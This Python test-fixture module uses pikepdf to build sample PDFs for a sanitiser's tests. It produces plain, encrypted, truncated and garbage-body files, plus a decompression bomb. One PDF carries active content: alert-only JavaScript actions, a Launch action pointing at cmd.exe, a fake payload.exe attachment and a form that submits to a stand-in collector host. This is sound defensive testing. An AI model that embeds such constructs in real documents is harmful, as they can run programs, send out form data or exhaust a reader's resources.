"""PDFs made for the tests with pikepdf: plain ones, ones carrying active content, and ones a clerk must never get."""

from __future__ import annotations

import io
import random
import zlib

import pikepdf

PAGE_DRAWING = b"q 0 0 1 rg 72 72 200 100 re f Q\n"  # a blue rectangle: the content that must survive sanitising


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
        pdf.pages[-1].obj.Contents = pdf.make_stream(PAGE_DRAWING)
    return saved(pdf)


def javascript_action(pdf: pikepdf.Pdf, script: str) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=script))


def link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 600, 300, 620], Border=[0, 0, 0], A=action,
    ))


def pdf_with_active_content(pages: int = 2) -> bytes:
    """Every kind of active content the sanitiser removes, next to a web link and a drawing it must keep."""
    pdf = pikepdf.Pdf.open(io.BytesIO(plain_pdf(pages)))
    pdf.Root.OpenAction = javascript_action(pdf, "app.alert('open')")
    pdf.Root.AA = pikepdf.Dictionary(WC=javascript_action(pdf, "app.alert('close')"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("startup"), javascript_action(pdf, "app.alert('name')")]),
    )
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", mime_type="application/x-msdownload")
    first = pdf.pages[0].obj
    first.AA = pikepdf.Dictionary(O=javascript_action(pdf, "app.alert('page')"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\cmd.exe"))
    web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://rsj.example.gov.cn/"))
    chained = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"),
                                 Next=javascript_action(pdf, "app.alert('next')"))
    attachment = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 20, 20],
        FS=pikepdf.AttachedFileSpec(pdf, b"hidden", filename="hidden.bin").obj,
    ))
    field = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
        Rect=[72, 500, 300, 520], P=first, AA=pikepdf.Dictionary(K=javascript_action(pdf, "app.alert('key')")),
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://collector.example/")),
    ))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field], XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"))
    first.Annots = pdf.make_indirect([link(pdf, launch), link(pdf, web), link(pdf, chained), attachment, field])
    pdf.Root.Outlines = outline_with_script(pdf)
    return saved(pdf)


def outline_with_script(pdf: pikepdf.Pdf) -> pikepdf.Object:
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=1))
    item = pdf.make_indirect(pikepdf.Dictionary(
        Title=pikepdf.String("Bookmark"), Parent=outlines, A=javascript_action(pdf, "app.alert('bookmark')"),
    ))
    outlines.First = item
    outlines.Last = item
    return outlines


def encrypted_pdf(*, user_password: str) -> bytes:
    return saved(pikepdf.Pdf.open(io.BytesIO(plain_pdf())), encryption=pikepdf.Encryption(owner="o", user=user_password))


def truncated_pdf() -> bytes:
    whole = plain_pdf(3)
    return whole[: len(whole) // 2]


def garbage_body_pdf() -> bytes:
    """A correct header and end marker around bytes that are no PDF at all."""
    return b"%PDF-1.7\n" + random.Random(7).randbytes(4000) + b"\n%%EOF\n"


def png_named_pdf() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)


def decompression_bomb_pdf(*, megabytes: int) -> bytes:
    """One page whose content stream is a few hundred kilobytes that inflate to `megabytes` of spaces."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    squeezed = zlib.compressobj(1)
    chunk = b" " * (1024 * 1024)
    deflated = b"".join(squeezed.compress(chunk) for _ in range(megabytes)) + squeezed.flush()
    pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, deflated, Filter=pikepdf.Name.FlateDecode)
    return saved(pdf)
